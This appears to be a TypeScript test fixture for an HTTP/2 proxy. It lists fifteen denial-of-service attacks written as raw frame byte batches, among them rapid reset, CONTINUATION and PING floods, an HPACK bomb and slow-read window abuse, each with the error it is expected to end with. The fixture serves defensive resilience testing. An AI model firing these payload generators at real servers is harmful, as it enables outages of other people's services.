/** What is done to servers of HTTP/2 over a socket, frame by frame: each attack as its bytes, batch after batch. */
import * as f from "../../proxy/h2/frame.ts";
import { integer, ModelEncoder } from "../property/hpack_model.ts";
import { headFrames, joined, number32, rawFrame, settingsFrame } from "../support/h2_frames.ts";

export interface H2Attack {
  readonly name: string;
  /** Bytes of batch `n`; a batch is some tens of kilobytes at most. */
  readonly batch: (n: number) => Uint8Array;
  readonly batches: number;
  /** The attacker reads nothing of what comes back. */
  readonly deaf?: boolean;
  /** The error it is ended with; null: it does no harm, and the connection may stay. */
  readonly ends: "ENHANCE_YOUR_CALM" | null;
}

const BATCH = 200;

function many(count: number, one: (i: number) => Uint8Array): Uint8Array {
  return joined(Array.from({ length: count }, (_, i) => one(i)));
}

/** A request's header block of literals that no table remembers. */
function block(method: string, path = "/", ...more: readonly string[]): number[] {
  const lines = [":method", method, ":scheme", "http", ":authority", "victim", ":path", path];
  const all = [...lines, ...more];
  const hpack = new ModelEncoder();
  const bytes: number[] = [];
  for (let i = 0; i < all.length; i += 2) {
    bytes.push(...hpack.field(all[i]!, all[i + 1]!, "without", false, true));
  }
  return bytes;
}

const GET = Uint8Array.from(block("GET")), POST = Uint8Array.from(block("POST"));
const BIG = Uint8Array.from(block("GET", "/big"));
/** A field of 3,900 bytes that stays in the table, and the byte that names it. */
const REMEMBERED = new ModelEncoder().field(
  "x-bomb",
  "b".repeat(3900),
  "incremental",
  false,
  false,
);
const NAMED = integer(0x80, 7, 62);

const idOf = (n: number, i: number): number => 1 + 2 * (n * BATCH + i);

export const ATTACKS: readonly H2Attack[] = [
  {
    name: "rapid reset (CVE-2023-44487)",
    batch: (n) =>
      many(BATCH, (i) =>
        joined([
          headFrames(idOf(n, i), GET, true),
          rawFrame(f.RST_STREAM, 0, idOf(n, i), number32(f.CANCEL)),
        ])),
    batches: 300,
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "made to reset (CVE-2025-8671)",
    batch: (n) =>
      many(BATCH, (i) =>
        joined([
          headFrames(idOf(n, i), POST, false),
          rawFrame(f.WINDOW_UPDATE, 0, idOf(n, i), number32(0)),
        ])),
    batches: 300,
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "CONTINUATION without end (CVE-2024-27316)",
    batch: (n) =>
      n === 0
        ? rawFrame(f.HEADERS, 0, 1, GET)
        : many(4, () => rawFrame(f.CONTINUATION, 0, 1, block("GET", "/", "x", "y".repeat(8000)))),
    batches: 1000,
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "empty CONTINUATION without end",
    batch: (n) =>
      n === 0 ? rawFrame(f.HEADERS, 0, 1, GET) : many(BATCH, () => rawFrame(f.CONTINUATION, 0, 1)),
    batches: 500,
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "SETTINGS without end",
    batch: () => many(BATCH, (i) => settingsFrame([4, 65_535 - (i % 2)])),
    batches: 500,
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "PING without end, answers unread (CVE-2019-9512)",
    batch: () => many(BATCH, () => rawFrame(f.PING, 0, 0, new Uint8Array(8))),
    batches: 1000,
    deaf: true,
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "empty DATA without end (CVE-2019-9518)",
    batch: (n) =>
      joined([
        n === 0 ? headFrames(1, POST, false) : new Uint8Array(0),
        many(BATCH, () => rawFrame(f.DATA, 0, 1)),
      ]),
    batches: 500,
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "PRIORITY without end (CVE-2019-9513)",
    batch: () => many(BATCH, (i) => rawFrame(f.PRIORITY, 0, 1 + 2 * i, [0, 0, 0, 0, i & 255])),
    batches: 500,
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "WINDOW_UPDATE of one byte without end",
    batch: () => many(BATCH, () => rawFrame(f.WINDOW_UPDATE, 0, 0, number32(1))),
    batches: 500,
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "frames of unknown types without end",
    batch: () => many(20, () => rawFrame(0xee, 0, 0, new Uint8Array(2000))),
    batches: 1000,
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "HPACK bomb: a long field named by a byte each",
    batch: (n) =>
      many(10, (i) => {
        const bytes = [...(n + i === 0 ? REMEMBERED : []), ...GET];
        for (let k = 0; k < 2000; k++) bytes.push(...NAMED);
        return headFrames(1 + 2 * (n * 10 + i), Uint8Array.from(bytes), true);
      }),
    batches: 500,
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "cookie crumbs that become one huge field (CVE-2026-49975)",
    batch: (n) =>
      many(10, (i) => {
        const bytes = [...GET];
        for (let k = 0; k < 1500; k++) bytes.push(0x0f, 0x11, 1, 0x61); // cookie: a
        return headFrames(1 + 2 * (n * 10 + i), Uint8Array.from(bytes), true);
      }),
    batches: 500,
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "thousands of streams that stay open",
    batch: (n) => many(BATCH, (i) => headFrames(idOf(n, i), POST, false)),
    batches: 300,
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "large answers behind a shut window (CVE-2019-9511)",
    batch: (n) =>
      n === 0
        ? settingsFrame([4, 0])
        : many(10, (i) => headFrames(1 + 2 * (n * 10 + i), BIG, true)),
    batches: 3, // few streams, within every limit: what they make us hold is the point
    ends: null,
  },
  {
    name: "large answers read a byte at a time",
    batch: (n) =>
      n === 0
        ? joined([settingsFrame([4, 1]), many(20, (i) => headFrames(1 + 2 * i, BIG, true))])
        : many(20, (i) => rawFrame(f.WINDOW_UPDATE, 0, 1 + 2 * i, number32(1))),
    batches: 20,
    ends: null,
  },
];
